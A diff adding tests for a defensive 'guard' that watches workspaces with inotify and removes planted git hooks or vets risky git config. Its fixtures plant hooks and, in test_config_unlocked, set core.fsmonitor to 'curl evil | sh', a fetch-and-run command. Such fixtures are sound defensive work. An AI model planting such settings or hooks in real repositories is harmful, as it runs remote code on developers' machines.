@@ -13,6 +13,7 @@
 #include <fcntl.h>
 #include <linux/magic.h>
 #include <signal.h>
+#include <sys/mman.h>
 #include <sys/stat.h>
 #include <sys/statfs.h>
 #include <sys/wait.h>
@@ -1167,7 +1168,7 @@ static void test_index(void)
 
 	struct index ix = { 0 };
 	bool changed = false;
-	is_int(index_refresh(wfd, ws, NULL, &ix, &changed), 0, "a first refresh lists the tree");
+	is_int(index_refresh(wfd, ws, NULL, NULL, &ix, &changed), 0, "a first refresh lists the tree");
 	ok(changed, "and says it changed");
 	/* "", a, a-b, a.b, a.b/y, a/b, a/b/c, x: a git directory itself is
 	 * not walked (its objects are no repositories) */
@@ -1194,7 +1195,7 @@ static void test_index(void)
 	is_int(index_load(sfd, "/elsewhere", &other), -EBADMSG, "another workspace's index is refused");
 
 	struct index again = { 0 };
-	is_int(index_refresh(wfd, ws, &back, &again, &changed), 0, "a refresh of an unchanged tree");
+	is_int(index_refresh(wfd, ws, &back, NULL, &again, &changed), 0, "a refresh of an unchanged tree");
 	ok(!changed, "finds nothing changed");
 	index_free(&again);
 
@@ -1203,7 +1204,7 @@ static void test_index(void)
 	_cleanup_free_ char *ab = path_join(ws, "a.b");
 	put(ws, "a.b/y/.git/HEAD", "ref: refs/heads/main\n");
 	chmod(ab, 0);
-	is_int(index_refresh(wfd, ws, &back, &again, &changed), 0, "a refresh after changes");
+	is_int(index_refresh(wfd, ws, &back, NULL, &again, &changed), 0, "a refresh after changes");
 	ok(changed, "finds them");
 	index_repos(&again, &repos);
 	ok(repos_have(&repos, "a/b/c") && repos_have(&repos, "a.b/y") && repos_have(&repos, "x"),
@@ -1296,6 +1297,350 @@ static void test_dropped_settings(void)
 	ok(x && !x[0], "no detail: no settings");
 }
 
+/* ---------------------------------------------------------------------
+ * A guard kept across many commands: guard_watch and guard_check
+ * ------------------------------------------------------------------ */
+
+/* n directories under rel, a few levels deep, as a node_modules is */
+static void make_dirs(const char *ws, const char *rel, int n)
+{
+	for (int i = 0; i < n; i++) {
+		_cleanup_free_ char *d = xasprintf("%s/p%d/q%d/r%d", rel, i % 10, (i / 10) % 10, i);
+		mkdirs(ws, d);
+	}
+}
+
+static size_t index_size(const char *ws)
+{
+	size_t n = 0;
+	_cleanup_close_ int wfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	struct index ix = { 0 };
+	bool changed;
+	if (index_refresh(wfd, ws, NULL, NULL, &ix, &changed) == 0)
+		n = ix.n;
+	index_free(&ix);
+	return n;
+}
+
+/* One check: its status, its report freed after the caller's look. */
+static int check(struct guard *g, unsigned flags, struct guard_report *rep)
+{
+	guard_report_free(rep);
+	return guard_check(g, flags, rep, NULL);
+}
+
+/* A shared writable mapping of a file's first byte, its descriptor
+ * closed: what is written through it makes no event (the file is closed
+ * for writing, an event, only once it is unmapped). */
+static char *map_first_byte(const char *ws, const char *rel)
+{
+	_cleanup_free_ char *full = path_join(ws, rel);
+	int fd = open(full, O_RDWR | O_CLOEXEC);
+	char *m = fd >= 0 ? mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) : MAP_FAILED;
+	if (fd >= 0)
+		close(fd);
+	if (m == MAP_FAILED) {
+		fprintf(stderr, "mmap %s: %m\n", full);
+		exit(1);
+	}
+	return m;
+}
+
+static void test_watch(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	make_dirs(f.ws, "node_modules", 2000);
+	size_t dirs = index_size(f.ws);
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin in a workspace of %zu directories", dirs);
+	guard_report_free(&rep);
+	if (!g) {
+		fixture_done(&f);
+		return;
+	}
+	is_int(guard_watch_fd(g), -1, "no watch before guard_watch");
+	is_int(guard_watch(g), 0, "guard_watch");
+	ok(guard_watch_fd(g) >= 0, "and its descriptor to poll");
+	bool busy = false;
+
+	/* 1. a change undone, the run kept */
+	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "guard_check after a hook was planted");
+	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the hook is gone");
+	is_int(index_dirs_stated, 0, "not one directory of the workspace stat'ed for it");
+	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && busy, "the run is still registered");
+	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nagain\n", 0755);
+	is_int(check(g, 0, &rep), 0, "a second check");
+	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nagain\n");
+	is_int(rep.n_changes, 1, "against the same baseline: that hook alone");
+
+	/* 2. nothing changed: no directory stat'ed */
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "a check with nothing changed");
+	is_int(rep.n_changes, 0, "finds nothing");
+	is_int(index_dirs_stated, 0, "and stats no directory of the %zu", dirs);
+
+	/* 3. a new repository in a deep new directory, found by listing the
+	 *    new directories alone */
+	put_mode(f.ws, "node_modules/p3/new/a/b/c/.git/hooks/post-merge", "#!/bin/sh\nevil\n", 0755);
+	put(f.ws, "node_modules/p3/new/a/b/c/.git/HEAD", "ref: refs/heads/main\n");
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "a check after a repository was made deep in a new directory");
+	check_change(&rep, "node_modules/p3/new/a/b/c/.git/hooks/post-merge", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(!exists(f.ws, "node_modules/p3/new/a/b/c/.git/hooks/post-merge"), "its hook is gone");
+	ok(index_dirs_stated <= 8, "only the new directories listed (%lu stat'ed)", index_dirs_stated);
+
+	/* moved in from outside the workspace, whole */
+	_cleanup_free_ char *outside = tmp_dir("outside");
+	put_mode(outside, "tree/x/.git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
+	_cleanup_free_ char *from = path_join(outside, "tree");
+	_cleanup_free_ char *to = path_join(f.ws, "node_modules/p4/moved");
+	ok(rename(from, to) == 0, "a tree with a repository moved in");
+	is_int(check(g, 0, &rep), 0, "a check");
+	check_change(&rep, "node_modules/p4/moved/x/.git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	/* moved within it, then a repository made where it is now */
+	_cleanup_free_ char *to2 = path_join(f.ws, "node_modules/p5/moved-again");
+	ok(rename(to, to2) == 0, "moved within the workspace");
+	is_int(check(g, 0, &rep), 0, "a check");
+	put_mode(f.ws, "node_modules/p5/moved-again/x/y/.git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "a check after a repository was made in it");
+	check_change(&rep, "node_modules/p5/moved-again/x/y/.git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(index_dirs_stated <= 4, "where it is now, found by its events (%lu stat'ed)", index_dirs_stated);
+
+	/* 4. GUARD_CHECK_IF_SEEN: only when the events name a hand-off. A
+	 *    write through a shared mapping makes none: the check after a
+	 *    command still finds it. */
+	char *m = map_first_byte(f.ws, ".envrc");
+	is_int(check(g, 0, &rep), 0, "a check");
+	m[0] = 'X';
+	put(f.ws, "src/other.c", "int x;\n");
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, after a write outside the hand-offs");
+	is_int(rep.n_changes, 0, "does nothing");
+	_cleanup_free_ char *mapped = slurp(f.ws, ".envrc");
+	is_str(mapped, "Xxport A=1\n", "so a write through a mapping stays for now");
+	munmap(m, 1);
+	put(f.ws, ".vscode/tasks.json", "{}\n");
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, after a hand-off was made");
+	check_change(&rep, ".vscode", GUARD_CREATED, NULL, NULL);
+	check_change(&rep, ".envrc", GUARD_CHANGED, NULL, "Xxport A=1\n");
+	_cleanup_free_ char *envrc = slurp(f.ws, ".envrc");
+	is_str(envrc, "export A=1\n", "and every hand-off is looked at then");
+	m = map_first_byte(f.ws, ".envrc");
+	is_int(check(g, 0, &rep), 0, "a check");
+	m[0] = 'Y';
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen");
+	is_int(rep.n_changes, 0, "sees nothing");
+	is_int(check(g, 0, &rep), 0, "a check after a command");
+	check_change(&rep, ".envrc", GUARD_CHANGED, NULL, "Yxport A=1\n");
+	munmap(m, 1);
+	/* a hand-off file written through another link to it: its own
+	 * watch sees it */
+	is_int(check(g, 0, &rep), 0, "a check");
+	_cleanup_free_ char *hook = path_join(f.ws, ".git/hooks/post-checkout");
+	_cleanup_free_ char *alias = path_join(f.ws, "src/alias");
+	ok(link(hook, alias) == 0, "a hard link to a hook, elsewhere");
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen");
+	put_mode(f.ws, "src/alias", "#!/bin/sh\nevil\n", 0755);
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, the hook written through the link");
+	check_change(&rep, ".git/hooks/post-checkout", GUARD_CHANGED, NULL, "#!/bin/sh\nevil\n");
+	_cleanup_free_ char *back = slurp(f.ws, ".git/hooks/post-checkout");
+	is_str(back, "#!/bin/sh\necho mine\n", "the hook is the user's again");
+
+	/* 5. events lost (the queue overflowed): a full refresh */
+	is_int(check(g, 0, &rep), 0, "a check");
+	_cleanup_free_ char *q = slurp("/proc/sys/fs/inotify/max_queued_events", NULL);
+	long max_queued = q ? strtol(q, NULL, 10) : 16384;
+	mkdirs(f.ws, "flood");
+	is_int(check(g, 0, &rep), 0, "a check: the new directory watched");
+	_cleanup_close_ int flood = open(f.ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	flood = openat(flood, "flood", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	for (long i = 0; i < max_queued / 2 + 16; i++) {
+		char name[32];
+		snprintf(name, sizeof(name), "f%ld", i);
+		int fd = openat(flood, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+		if (fd >= 0)
+			close(fd);
+		unlinkat(flood, name, 0);
+	}
+	/* its events lost with the rest */
+	put_mode(f.ws, "node_modules/p6/lost/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "a check after %ld events, more than the queue holds", max_queued / 2 * 2 + 32);
+	check_change(&rep, "node_modules/p6/lost/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(index_dirs_stated >= dirs, "found by a full refresh (%lu of %zu stat'ed)", index_dirs_stated, dirs);
+	ok(guard_watch_fd(g) >= 0, "and the watch goes on");
+	put_mode(f.ws, "node_modules/p7/again/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	index_dirs_stated = 0;
+	is_int(check(g, 0, &rep), 0, "a check after that");
+	check_change(&rep, "node_modules/p7/again/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
+	ok(index_dirs_stated <= 4, "by its events again (%lu stat'ed)", index_dirs_stated);
+
+	guard_report_free(&rep);
+	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
+	is_int(rep.n_changes, 0, "with nothing left to undo");
+	guard_report_free(&rep);
+	guard_free(g);
+	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && !busy, "the run is over");
+	rm_rf(outside);
+	fixture_done(&f);
+}
+
+/* A check that cannot quarantine fails closed as guard_end does (the hook
+ * renamed beside itself, the cleanup failed) and keeps the run; the next
+ * check, the quarantine back, takes what was left beside. */
+static void test_check_failed(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
+	guard_report_free(&rep);
+	if (!g || guard_watch(g) < 0) {
+		fixture_done(&f);
+		return;
+	}
+	_cleanup_free_ char *qtop = path_join(f.state, "quarantine");
+	put(f.state, "quarantine", "in the way\n");
+	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+	is_int(check(g, 0, &rep), 0, "a check whose quarantine cannot be made");
+	ok(rep.cleanup_failed, "says its cleanup failed");
+	const struct guard_change *c = find_change(&rep, ".git/hooks/pre-commit");
+	ok(c && c->beside, "the hook is renamed beside itself");
+	ok(!exists(f.ws, ".git/hooks/pre-commit"), "no pre-commit hook is in effect");
+	bool busy = false;
+	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && busy, "the run goes on");
+	unlink(qtop);
+	is_int(check(g, 0, &rep), 0, "the next check, the quarantine back");
+	ok(!rep.cleanup_failed && rep.n_changes == 1 && rep.changes[0].quarantined && !rep.changes[0].beside,
+	   "takes what was left beside into the quarantine");
+	guard_report_free(&rep);
+	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
+	is_int(rep.n_changes, 0, "with nothing left");
+	guard_report_free(&rep);
+	guard_free(g);
+	fixture_done(&f);
+}
+
+/* A config whose every change is inert is left without git's lock: a
+ * git still writing it (its config.lock held) is neither waited for nor
+ * kept from setting its next setting. One that is not inert is vetted
+ * all the same, after the wait. */
+static void test_config_unlocked(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
+	guard_report_free(&rep);
+	if (!g || guard_watch(g) < 0) {
+		fixture_done(&f);
+		return;
+	}
+	static const char remote[] = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+				     "[remote \"origin\"]\n\turl = https://example.com/r.git\n";
+	put(f.ws, ".git/config", remote);
+	put(f.ws, ".git/config.lock", "a git writing\n");
+	unsigned long long t0 = now_usec();
+	is_int(check(g, 0, &rep), 0, "a check, config.lock held, the config's change inert");
+	ok(now_usec() - t0 < 1000000, "does not wait for the lock (%llu ms)", (now_usec() - t0) / 1000);
+	is_int(rep.n_changes, 0, "changes nothing");
+	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+	is_str(config, remote, "the config is the run's");
+	_cleanup_free_ char *lock = slurp(f.ws, ".git/config.lock");
+	is_str(lock, "a git writing\n", "the lock is git's still");
+	put(f.ws, ".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
+	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "between commands, a setting that is not inert, the lock held");
+	ok(!find_change(&rep, ".git/config"), "is left for the check its rename brings");
+	is_int(check(g, 0, &rep), 0, "after a command");
+	check_change(&rep, ".git/config", GUARD_VETTED, NULL, NULL);
+	_cleanup_free_ char *vetted = slurp(f.ws, ".git/config");
+	is_str(vetted, "[core]\n", "it is vetted");
+	guard_report_free(&rep);
+	_cleanup_free_ char *lockp = path_join(f.ws, ".git/config.lock");
+	unlink(lockp);
+	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
+	guard_report_free(&rep);
+	guard_free(g);
+	fixture_done(&f);
+}
+
+/* inotify_add_watch refused with ENOSPC, as when the user's watches are
+ * used up: guard_watch says so and the checks refresh the whole index;
+ * refused in the middle, the watch stops and says so once. */
+static void test_watch_enospc(void)
+{
+	struct fixture f;
+	fixture_init(&f, NULL);
+	make_dirs(f.ws, "node_modules", 200);
+	size_t dirs = index_size(f.ws);
+	fflush(stdout);
+	pid_t pid = fork();
+	if (pid == 0) {
+		/* each failed step its own status */
+		struct guard *g = NULL;
+		struct guard_report rep = { 0 };
+		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
+			_exit(10);
+		if (guard_watch(g) < 0)
+			_exit(11);
+		scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
+		if (!ctx || seccomp_rule_add(ctx, SCMP_ACT_ERRNO(ENOSPC), SCMP_SYS(inotify_add_watch), 0) < 0 ||
+		    seccomp_load(ctx) < 0)
+			_exit(12);
+		/* a new directory: its watch refused */
+		put_mode(f.ws, "node_modules/new/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+		if (check(g, 0, &rep) < 0)
+			_exit(13);
+		if (rep.watch_stopped != -ENOSPC)
+			_exit(14);
+		if (exists(f.ws, "node_modules/new/.git/hooks/pre-commit") || rep.n_changes != 1)
+			_exit(15);
+		if (guard_watch_fd(g) != -1)
+			_exit(16);
+		/* from now on a full refresh, said no more */
+		put_mode(f.ws, "node_modules/p1/other/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+		index_dirs_stated = 0;
+		if (check(g, 0, &rep) < 0 || rep.watch_stopped || rep.n_changes != 1 || index_dirs_stated < dirs)
+			_exit(17);
+		if (check(g, GUARD_CHECK_IF_SEEN, &rep) < 0 || rep.n_changes)
+			_exit(18);
+		guard_report_free(&rep);
+		if (guard_end(g, &rep, NULL) < 0)
+			_exit(19);
+		guard_report_free(&rep);
+		guard_free(g);
+		/* refused from the start */
+		g = NULL;
+		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
+			_exit(20);
+		guard_report_free(&rep);
+		if (guard_watch(g) != -ENOSPC || guard_watch_fd(g) != -1)
+			_exit(21);
+		put_mode(f.ws, "node_modules/p2/third/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
+		if (check(g, 0, &rep) < 0 || rep.n_changes != 1 || exists(f.ws, "node_modules/p2/third/.git/hooks/pre-commit"))
+			_exit(22);
+		guard_report_free(&rep);
+		if (guard_end(g, &rep, NULL) < 0)
+			_exit(23);
+		guard_report_free(&rep);
+		guard_free(g);
+		_exit(0);
+	}
+	int st = 0;
+	waitpid(pid, &st, 0);
+	is_int(WIFEXITED(st) ? WEXITSTATUS(st) : 100 + WTERMSIG(st), 0,
+	       "watches refused (ENOSPC) at the start and in the middle: each said, every check a full refresh, "
+	       "every hook undone");
+	fixture_done(&f);
+}
+
 int main(void)
 {
 	test_hostile_names();
@@ -1314,5 +1659,9 @@ int main(void)
 	test_nothing_written();
 	test_cross_filesystem();
 	test_timing();
+	test_watch();
+	test_check_failed();
+	test_config_unlocked();
+	test_watch_enospc();
 	return tap_done();
 }
